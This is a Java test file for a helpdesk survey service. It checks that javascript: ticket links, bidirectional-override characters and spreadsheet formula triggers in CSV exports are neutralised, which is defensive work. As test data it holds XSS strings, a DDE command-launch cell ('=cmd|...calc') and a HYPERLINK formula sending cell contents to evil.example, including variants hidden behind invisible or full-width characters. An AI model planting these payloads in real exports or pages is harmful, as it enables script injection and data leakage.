package dev.closeloop.app;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.closeloop.testing.MutableClock;
import dev.closeloop.testing.TestApp;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.time.Instant;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What a hostile ticket or answer can plant: a {@code javascript:} ticket URL must not become a
 * link on the sandbox page, and an export opened in a spreadsheet must not run a formula.
 */
class LinksAndExportTest {
  static final ObjectMapper JSON = new ObjectMapper();
  static final Instant T0 = Instant.parse("2026-11-24T10:00:00Z");

  @TempDir Path dir;
  final MutableClock clock = new MutableClock(T0);
  TestApp app;

  @BeforeEach
  void start() {
    app =
        TestApp.start(
            dir,
            "survey: { delay: PT0S, quietHours: \"\", weekends: true }\nsandbox: { enabled: true }\n"
                + "connectors: { freshservice: { secret: fs-token } }",
            clock);
  }

  @AfterEach
  void stop() {
    app.close();
  }

  HttpResponse<String> sandbox(String path, String body) {
    return app.send(
        HttpRequest.newBuilder(URI.create(app.url("/sandbox/api/" + path)))
            .header("Content-Type", "application/json")
            .method(
                body == null ? "GET" : "POST",
                body == null
                    ? HttpRequest.BodyPublishers.noBody()
                    : HttpRequest.BodyPublishers.ofString(body))
            .build());
  }

  String close(String id, String url, String name, String email) {
    ObjectNode root = JSON.createObjectNode().put("event", "ticket.closed");
    root.putObject("ticket").put("id", id).put("title", "Printer").put("url", url);
    root.putObject("requester").put("email", email).put("name", name);
    return root.toString();
  }

  /** Freshservice's template payload takes the ticket URL as the helpdesk gives it. */
  HttpResponse<String> freshservice(String id, String url, String email) {
    return freshservice(id, url, email, "Printer");
  }

  HttpResponse<String> freshservice(String id, String url, String email, String title) {
    ObjectNode root = JSON.createObjectNode();
    ObjectNode t = root.putObject("ticket").put("id", id).put("title", title);
    t.put("url", url).put("status", "Closed");
    t.putObject("requester").put("email", email).put("name", "Dana");
    return app.send(
        HttpRequest.newBuilder(URI.create(app.url("/hooks/tickets/freshservice")))
            .header("Content-Type", "application/json")
            .header("X-Closeloop-Token", "fs-token")
            .POST(HttpRequest.BodyPublishers.ofString(root.toString()))
            .build());
  }

  @Test
  void aJavascriptTicketUrlIsNeverALinkOnTheSandboxPage() {
    assertThat(freshservice("1", "javascript:alert(document.cookie)", "d@x.org").statusCode())
        .isEqualTo(202);
    assertThat(freshservice("2", "JavaScript:alert(1)//https://x", "l@x.org").statusCode())
        .isEqualTo(202);
    assertThat(freshservice("3", "https://help.example.com/t/3", "k@x.org").statusCode())
        .isEqualTo(202);
    app.tick();
    app.deliver();

    String page = sandbox("messages", null).body();
    assertThat(page).contains("d@x.org", "l@x.org", "https://help.example.com/t/3");
    assertThat(page.toLowerCase()).doesNotContain("javascript:");
  }

  @Test
  void aBidiOverrideInATicketOrWhatAPersonTypedNeverReachesTheSandboxPage() {
    // Slack and Discord drop U+202A-E and U+2066-9 from people's text; the sandbox page showed
    // them, so "Title\u202eReversed" turned the rest of its line around there
    String rlo = "\u202e";
    String body =
        "{\"email\":\"bidi@x.org\",\"id\":\"BIDI-1\",\"title\":\"Printer"
            + rlo
            + "jams\",\"name\":\"Dana\u2066\",\"team\":\"help"
            + rlo
            + "desk\"}";
    // a ticket's fields are refused with them, as every webhook and admin field is
    var refused = sandbox("tickets", body);
    assertThat(refused.statusCode()).isEqualTo(400);
    assertThat(refused.body()).contains("title contains control characters");
    // a helpdesk's ticket keeps its words without them
    assertThat(
            freshservice(
                    "BIDI-1",
                    "https://help.example.com/t/b",
                    "bidi@x.org",
                    "Printer" + rlo + "jams")
                .statusCode())
        .isEqualTo(202);
    app.tick();
    app.deliver();
    // what a person types in a conversation is taken, and shown without them
    assertThat(
            sandbox("type", "{\"user\":\"bidi@x.org\",\"text\":\"3 " + rlo + "ok\"}").statusCode())
        .isEqualTo(200);
    app.deliver();

    String page = sandbox("messages", null).body();
    assertThat(page).contains("BIDI-1", "Printerjams", "3 ok");
    assertThat(page).doesNotContain(rlo, "\u2066");
  }

  @Test
  void exportCellsThatASpreadsheetWouldRunAreNeutralised() throws Exception {
    app.webhook(close("=cmd|' /C calc'!A0", "https://h.example/1", "@SUM(1+1)", "d@x.org"));
    app.tick();
    app.deliver();
    assertThat(
            sandbox("click", "{\"user\":\"d@x.org\",\"actionId\":\"cl:s:1:rate:1\"}").statusCode())
        .isEqualTo(200);
    app.deliver();
    String comment = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click me\")";
    assertThat(
            sandbox(
                    "type",
                    JSON.createObjectNode().put("user", "d@x.org").put("text", comment).toString())
                .statusCode())
        .isEqualTo(200);

    String csv = app.admin("GET", "/admin/export?format=csv", null).body();

    assertThat(csv).contains("'=HYPERLINK(").contains("'@SUM(1+1)").contains("'=cmd|");
    for (String line : csv.split("\n")) {
      for (String cell : line.split(",")) {
        String c = cell.startsWith("\"") ? cell.substring(1) : cell;
        assertThat(c).doesNotStartWith("=").doesNotStartWith("@").doesNotStartWith("+");
      }
    }
    // JSON keeps the exact text: only spreadsheets read formulas
    assertThat(app.admin("GET", "/admin/export?format=json", null).body())
        .contains("\"comment\" : \"=HYPERLINK(");
  }

  @Test
  void everyFormulaTriggerIsNeutralisedAndOrdinaryTextIsKept() {
    for (String t : new String[] {"=1+1", "+1", "-1+2", "@A1", "\tx", "\rx"}) {
      assertThat(SurveyExport.spreadsheetSafe(t)).isEqualTo("'" + t);
    }
    assertThat(SurveyExport.spreadsheetSafe("It's fine = ok")).isEqualTo("It's fine = ok");
    assertThat(SurveyExport.spreadsheetSafe("")).isEqualTo("");
  }

  @Test
  void aTriggerBehindSpacesOrInFullWidthIsNeutralisedToo() {
    // LibreOffice's "trim spaces" import option, a line break before the formula, and the
    // full-width signs a Japanese input method types, which spreadsheets read as the ASCII ones
    for (String t :
        new String[] {
          " =1+1",
          "  @SUM(A1)",
          "\n=HYPERLINK(\"http://evil.example\")",
          "\u00a0+1",
          "\u3000-1",
          "\uff1dcmd|' /C calc'!A0",
          "\uff0b1",
          "\uff0d1",
          "\uff20A1"
        }) {
      assertThat(SurveyExport.spreadsheetSafe(t)).as(t).isEqualTo("'" + t);
    }
    assertThat(SurveyExport.spreadsheetSafe("  fine")).isEqualTo("  fine");
    assertThat(SurveyExport.spreadsheetSafe("   ")).isEqualTo("   ");
  }

  /**
   * A requester name or email from a webhook may begin with a character that shows nothing (a
   * zero-width space, a byte-order mark, a word joiner, a soft hyphen) before the trigger: it was
   * exported as is ("\u200b=1@x.com" seen on the jar), as if the cell began with a letter. Whether
   * a spreadsheet drops them on import is its own business; the guard looks past them as it looks
   * past spaces.
   */
  @Test
  void aTriggerBehindAnInvisibleCharacterIsNeutralisedToo() {
    for (String t :
        new String[] {
          "\u200b=1@x.com",
          "\ufeff=HYPERLINK(\"http://evil.example\")",
          "\u2060@A1",
          "\u00ad+1",
          "\u200b \u200d-1",
          "\u200e=1"
        }) {
      assertThat(SurveyExport.spreadsheetSafe(t)).as(t).isEqualTo("'" + t);
    }
    assertThat(SurveyExport.spreadsheetSafe("\u200bfine")).isEqualTo("\u200bfine");
  }
}
